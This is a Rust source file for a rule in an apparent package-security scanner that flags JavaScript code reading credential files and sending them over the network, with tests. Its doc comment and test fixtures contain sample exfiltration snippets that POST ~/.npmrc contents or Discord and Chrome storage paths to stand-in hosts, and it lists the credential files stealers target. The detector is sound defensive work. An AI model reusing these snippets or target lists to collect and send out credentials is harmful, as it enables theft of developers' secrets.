//! ## What it does
//! Fires when code reads credential stores and has a way to send them:
//! - the contents of a credential file (`~/.npmrc`, `~/.ssh/*`, `~/.aws/credentials`,
//!   `.env`, `.git-credentials`, `.docker/config.json`, kube config, browser profiles, wallet
//!   files, `/etc/passwd`) flow into a network sink — critical;
//! - the file names stealer targets (browser `Local Storage`/leveldb and `Login Data`,
//!   Discord token stores, wallet directories, `/etc/passwd`) next to a network sink in the
//!   same file — critical (the reading may happen in a helper module);
//! - several different developer credential files read in a file that also sends data —
//!   high.
//!
//! ## Why is this bad?
//! Libraries that need a credential get it passed in or read one file for one purpose.
//! Collecting many, or shipping one off, is theft.
//!
//! ## Example
//! ```js
//! const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
//! fetch('https://collect.example', { method: 'POST', body: token }); // credential-file-read
//! ```
//! Benign look-alike: `dotenv` reading `.env` into `process.env` (no network sink).
//!
//! ## Motivated by
//! eslint-scope 3.7.2 (`.npmrc`), the nx s1ngularity compromise (wallets, SSH keys, `.env`),
//! an0n-chat-lib and discord-fix (Discord leveldb token stores).

use std::collections::BTreeSet;

use crate::alert::{AlertId, AlertSeverity};
use crate::js::context::{Ctx, Emitter};
use crate::js::facts::FsKind;
use crate::js::strings::Family;
use crate::js::taint::Taint;

pub fn check(ctx: &Ctx<'_>, out: &mut Emitter<'_>) {
    let sends = ctx.sends();
    for send in sends {
        if send.local {
            continue;
        }
        if send.payload.has(Taint::CRED_DATA) {
            out.report(
                AlertId::CredentialFileRead,
                AlertSeverity::Critical,
                send.span,
                format!("the contents of a credential file reach `{}`", send.callee),
                send.url_texts(),
            );
        }
    }
    if sends.is_empty() {
        return;
    }
    let stealer: Vec<_> = ctx
        .facts
        .strings
        .iter()
        .filter(|h| h.what.has(Family::StealerTarget))
        .collect();
    if let Some(first) = stealer.first() {
        let detail = format!(
            "names {} stealer target(s) (browser or Discord storage, wallets, system passwords) and sends data",
            stealer.len()
        );
        out.report(
            AlertId::CredentialFileRead,
            AlertSeverity::Critical,
            first.span,
            detail,
            sends[0].url_texts(),
        );
    }
    // Several different developer credential files read in a file that sends data.
    let reads: BTreeSet<String> = ctx
        .facts
        .fs
        .iter()
        .filter(|op| {
            matches!(op.kind, FsKind::Read | FsKind::ReadDir)
                && ctx.taint(&op.path).has(Taint::CRED_PATH)
        })
        .filter_map(|op| op.path_text.clone())
        .collect();
    if reads.len() >= 2
        && let Some(op) = ctx.facts.fs.iter().find(|op| {
            matches!(op.kind, FsKind::Read | FsKind::ReadDir)
                && ctx.taint(&op.path).has(Taint::CRED_PATH)
        })
    {
        let list: Vec<&str> = reads.iter().map(String::as_str).take(5).collect();
        out.report(
            AlertId::CredentialFileRead,
            AlertSeverity::High,
            op.span,
            format!(
                "reads {} credential files ({})",
                reads.len(),
                list.join(", ")
            ),
            Vec::new(),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::alert::{AlertId, AlertSeverity};
    use crate::rules::test_support::{fires, silent};

    #[test]
    fn credential_contents_sent_fire() {
        fires(
            "const fs = require('fs'), os = require('os'), path = require('path');\nconst t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nfetch('https://c.example', { method: 'POST', body: t });",
            false,
            AlertId::CredentialFileRead,
            AlertSeverity::Critical,
        );
        fires(
            "const dirs = ['Roaming/Discord', 'Local/Google/Chrome/User Data/Default'];\nconst rp = require('request');\nrp({ uri: 'https://collect.example', method: 'POST', json: dirs.map(load) });",
            false,
            AlertId::CredentialFileRead,
            AlertSeverity::Critical,
        );
    }

    #[test]
    fn reading_a_dotenv_file_without_sending_does_not() {
        silent(
            "const fs = require('fs'); const src = fs.readFileSync('.env', 'utf8'); parse(src);",
            false,
            AlertId::CredentialFileRead,
        );
        silent(
            "const p = require('path').join(require('os').homedir(), '.npmrc'); console.log('config at', p);",
            false,
            AlertId::CredentialFileRead,
        );
    }
}
